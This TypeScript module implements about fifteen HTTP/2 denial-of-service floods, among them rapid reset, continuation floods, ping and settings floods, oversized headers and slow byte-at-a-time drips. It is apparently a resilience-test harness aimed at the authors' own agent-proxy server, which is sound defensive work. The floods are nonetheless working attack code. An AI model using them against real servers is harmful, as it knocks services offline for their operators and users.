import { once } from "node:events";
import type { AttackContext } from "./attack.ts";
import { flags, frame, headerBlock, number32, openHttp2, requestHeaders, settingsFrame } from "./frames.ts";
import { runPeers, untilClosed, writeForever } from "./peers.ts";

/** Frames of one write. */
const BATCH = 200;

/** Floods each connection with what `next` makes; stream ids go up by two. */
function flood(
  context: AttackContext,
  next: (id: number) => Buffer,
  before: () => Buffer = () => Buffer.alloc(0),
): Promise<void> {
  return runPeers(
    context,
    () => openHttp2(context.port),
    async (socket) => {
      let id = 1;
      socket.write(before());
      await writeForever(socket, context, () =>
        Buffer.concat(Array.from({ length: BATCH }, () => next((id += 2)))),
      );
    },
  );
}

const get = (id: number, path = "/agents") =>
  frame("headers", { stream: id, flag: flags.endStream | flags.endHeaders, payload: requestHeaders(path) });
const postHeaders = requestHeaders("/valinor.v1.AgentProxy/SendMessage", [
  ["content-type", "application/json"],
]);
const post = (id: number) => frame("headers", { stream: id, flag: flags.endHeaders, payload: postHeaders });
const reset = (id: number) => frame("rstStream", { stream: id, payload: number32(8) });

/** Requests that are cancelled as soon as they are sent. */
export const rapidReset = (context: AttackContext) =>
  flood(context, (id) => Buffer.concat([get(id), reset(id)]));

/** As many requests as the server takes, answered with 401, one after the other. */
export const requests = (context: AttackContext) => flood(context, (id) => get(id));

/** A request whose headers never end. */
export const continuation = (context: AttackContext) =>
  flood(
    context,
    () => frame("continuation", { stream: 1, payload: headerBlock([["x-a", "b".repeat(200)]]) }),
    () => frame("headers", { stream: 1, payload: requestHeaders("/agents") }),
  );

/** The same with continuations that are empty. */
export const emptyContinuation = (context: AttackContext) =>
  flood(
    context,
    () => frame("continuation", { stream: 1 }),
    () => frame("headers", { stream: 1, payload: requestHeaders("/agents") }),
  );

export const pings = (context: AttackContext) =>
  flood(context, () => frame("ping", { payload: Buffer.alloc(8) }));

export const settings = (context: AttackContext) => flood(context, () => settingsFrame(4, 65_535));

/** Header tables that are made larger and smaller. */
export const tableSizes = (context: AttackContext) =>
  flood(context, (id) => Buffer.concat([settingsFrame(1, id % 4 === 1 ? 0 : 65_536), get(id)]));

export const windowUpdates = (context: AttackContext) =>
  flood(context, () => frame("windowUpdate", { payload: number32(1) }));

/** Frames of a body with nothing in them. */
export const emptyData = (context: AttackContext) =>
  flood(
    context,
    () => frame("data", { stream: 1 }),
    () => post(1),
  );

export const priorities = (context: AttackContext) =>
  flood(context, (id) => frame("priority", { stream: id, payload: Buffer.from([0, 0, 0, 1, 7]) }));

/** Headers without a name or a value. */
export const emptyHeaders = (context: AttackContext) =>
  flood(context, (id) =>
    frame("headers", {
      stream: id,
      flag: flags.endStream | flags.endHeaders,
      payload: headerBlock(Array.from({ length: 500 }, () => ["", ""] as const)),
    }),
  );

/** Header lists of 60 KiB each. */
export const largeHeaders = (context: AttackContext) =>
  flood(context, (id) => {
    const block = requestHeaders(
      "/agents",
      Array.from({ length: 15 }, (_, i) => [`x-${i}`, "v".repeat(1_000)]),
    );
    return frame("headers", { stream: id, flag: flags.endStream | flags.endHeaders, payload: block });
  });

/** Frames of unknown types. */
export const unknownFrames = (context: AttackContext) =>
  flood(context, () => {
    const unknown = frame("data", { payload: Buffer.alloc(100) });
    unknown.writeUInt8(200, 3);
    return unknown;
  });

/** Resets of streams that never were. */
export const resetsOfNothing = (context: AttackContext) => flood(context, (id) => reset(id));

/** Bodies over the bound, never ended: their answers leave early. */
export const bodiesThatGoOn = (context: AttackContext) =>
  flood(context, (id) =>
    Buffer.concat([post(id), frame("data", { stream: id, payload: Buffer.alloc(1_000, " ") })]),
  );

/** A hundred answers a connection that the client has no window for. */
export const tinyWindows = (context: AttackContext) =>
  runPeers(
    context,
    () => openHttp2(context.port, settingsFrame(4, 1)),
    async (socket) => {
      for (let i = 0; i < 100; i++) socket.write(get(2 * i + 1, "/console/"));
      await untilClosed(socket, context);
    },
  );

/** Frames that come a byte at a time. */
export const drips = (context: AttackContext) =>
  runPeers(
    context,
    () => openHttp2(context.port),
    async (socket, isOver) => {
      const bytes = get(1);
      socket.setNoDelay(true);
      for (let at = 0; !isOver(); at = (at + 1) % bytes.length) {
        socket.write(bytes.subarray(at, at + 1));
        await Promise.race([
          new Promise((resolve) => setTimeout(resolve, 5)),
          once(socket, "close").catch(() => {}),
        ]);
      }
    },
  );
